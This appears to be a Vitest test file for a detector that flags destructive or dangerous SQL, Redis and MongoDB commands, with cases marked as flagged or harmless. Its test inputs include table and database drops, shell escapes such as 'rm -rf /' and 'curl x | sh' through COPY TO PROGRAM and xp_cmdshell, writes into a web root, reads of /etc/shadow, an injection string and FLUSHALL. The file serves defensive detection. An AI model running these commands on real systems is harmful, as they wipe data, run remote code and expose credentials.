import { describe, expect, test } from "vitest";
import { readCode } from "./seen.js";

const DROP = "act infra/database-drop";
const ROWS = "act infra/database-rows";

describe("deeds", () => {
  test.each([
    ["drop table users", [DROP]],
    ["DROP TABLE IF EXISTS app.users CASCADE;", [DROP]],
    ["DROP DATABASE `shop`", [DROP]],
    ["drop/**/schema public", [DROP]],
    ["SELECT 1; -- x\nDROP TABLE users", [DROP]],
    ["/*!40000 DROP TABLE users */", [DROP]],
    ["TRUNCATE orders", [ROWS]],
    ["truncate table only orders restart identity", [ROWS]],
    ["DELETE FROM users", [ROWS]],
    ["DELETE FROM users WHERE 1=1", [ROWS]],
    ["DELETE FROM users WHERE id = 3 OR 1 = 1", [ROWS]],
    ["DELETE FROM users WHERE (TRUE) RETURNING *", [ROWS]],
    ["UPDATE users SET role='admin'", [ROWS]],
    ["EXPLAIN ANALYZE DELETE FROM users", [ROWS]],
    ["WITH x AS (SELECT 1) DELETE FROM users", [ROWS]],
    ["WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d", [ROWS]],
    ["ALTER TABLE users DROP COLUMN email", [DROP]],
    ["ALTER TABLE users DROP email", [DROP]],
    ["DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$", [DROP]],
    ["EXECUTE IMMEDIATE 'DROP TABLE users'", [DROP]],
    ["SELECT 'DROP TABLE ' || tablename FROM pg_tables \\gexec", [DROP]],
    ["BEGIN; DROP TABLE users; COMMIT;", [DROP]],
    ["BEGIN; DELETE FROM a; COMMIT; BEGIN; DELETE FROM b; ROLLBACK;", [ROWS]],
    ["MATCH (n) DETACH DELETE n", [ROWS]],
    ["DROP MEASUREMENT cpu", [DROP]],
    ["DROP KEYSPACE shop", [DROP]],
  ])("%s", (code, expected) => expect(readCode("sql", code)).toEqual(expected));
});

describe("the host's programs and files", () => {
  test.each([
    ["COPY t TO PROGRAM 'rm -rf /'", ["sh rm -rf /"]],
    ["COPY t FROM PROGRAM 'curl x | sh'", ["sh curl x | sh"]],
    ["EXEC xp_cmdshell 'del x'", ["sh del x"]],
    ["\\! rm -rf ~", ["sh rm -rf ~"]],
    [".shell rm x", ["sh rm x"]],
    ["SELECT * FROM t INTO OUTFILE '/var/www/x.php'", ["overwrite /var/www/x.php"]],
    ["SELECT LOAD_FILE('/etc/shadow')", ["read /etc/shadow"]],
    ["COPY t TO '/tmp/t.csv'", ["overwrite /tmp/t.csv"]],
    ["\\i setup.sql", ["read-execute /home/dev/app/setup.sql"]],
    ["\\copy t to program 'rm x'", ["sh rm x"]],
    ["\\o | rm x", ["sh rm x"]],
    [".output out.txt", ["overwrite /home/dev/app/out.txt"]],
  ])("%s", (code, expected) => expect(readCode("sql", code)).toEqual(expected));
});

describe("no deed", () => {
  test.each([
    "SELECT 'DROP TABLE users'",
    'SELECT "drop table" FROM t',
    "-- DROP TABLE users",
    "/* DROP TABLE users */ SELECT 1",
    "INSERT INTO t VALUES ('x'';DROP TABLE users;--')",
    "INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET n = 2",
    "INSERT INTO t VALUES (1) ON DUPLICATE KEY UPDATE n = 2",
    "SELECT * FROM t FOR UPDATE",
    "EXPLAIN DELETE FROM users",
    "DELETE FROM users WHERE id = 1",
    "DELETE FROM t USING u WHERE t.id = u.id",
    "UPDATE users SET a = (SELECT 1 WHERE true) WHERE id = 2",
    "CREATE TEMP TABLE x (a int); DELETE FROM x; DROP TABLE x",
    "CREATE TABLE x (a int); DROP TABLE x",
    "DROP INDEX idx; DROP VIEW v; DROP FUNCTION f()",
    "ALTER TABLE t DROP CONSTRAINT c",
    "ALTER TABLE t ALTER COLUMN a DROP NOT NULL",
    "CREATE FUNCTION f() RETURNS void AS $$ DELETE FROM users; $$ LANGUAGE sql",
    "CREATE TRIGGER x AFTER INSERT ON t BEGIN DELETE FROM log; END;",
    "BEGIN; DELETE FROM users; ROLLBACK",
    "MATCH (n:Person {name: 'x'}) DELETE n",
    "\\dt+",
    ".tables",
    "SELECT $$DROP TABLE users$$",
    "",
    ";;;",
  ])("%s", (code) => expect(readCode("sql", code)).toEqual([]));
});

test("both readings of a backslash in a string count", () => {
  expect(readCode("sql", "SELECT 'a\\'; DROP TABLE users; -- '")).toEqual([DROP]);
});

describe("redis", () => {
  test.each([
    ["FLUSHALL", [DROP]],
    ["flushdb async", [DROP]],
    ["GET a\nFLUSHALL", [DROP]],
    ["EVAL \"redis.call('flushall')\" 0", [DROP]],
    ["SHUTDOWN NOSAVE", ["act infra/database-server"]],
    ["CONFIG SET dir /etc", ["act infra/database-server"]],
    ["REPLICAOF evil 6379", [DROP]],
    ["DEL ⟦stdin⟧", [ROWS]],
    ["SET note 'FLUSHALL'", []],
    ["DEL a b", []],
    ["CONFIG GET dir", []],
    ["REPLICAOF NO ONE", []],
    ["", []],
  ])("%s", (code, expected) => expect(readCode("redis", code)).toEqual(expected));
});

describe("mongo", () => {
  test.each([
    ["db.dropDatabase()", [DROP]],
    ["db.users.drop()", [DROP]],
    ["db.getCollection('users').drop()", [DROP]],
    ["db.getSiblingDB('shop').dropDatabase()", [DROP]],
    ["db.users.deleteMany({})", [ROWS]],
    ["db.users.remove({})", [ROWS]],
    ["db.runCommand({ dropDatabase: 1 })", [DROP]],
    ["db.adminCommand({ shutdown: 1 })", ["act infra/database-server"]],
    ["db.users.deleteMany({ a: 1 })", []],
    ["db.users.updateMany({ a: 1 }, { $set: { a: 2 } })", []],
    ["db.users.find({}).limit(1)", []],
    ["print('db.dropDatabase()')", []],
    ["// db.dropDatabase()", []],
  ])("%s", (code, expected) => expect(readCode("mongo", code)).toEqual(expected));
});
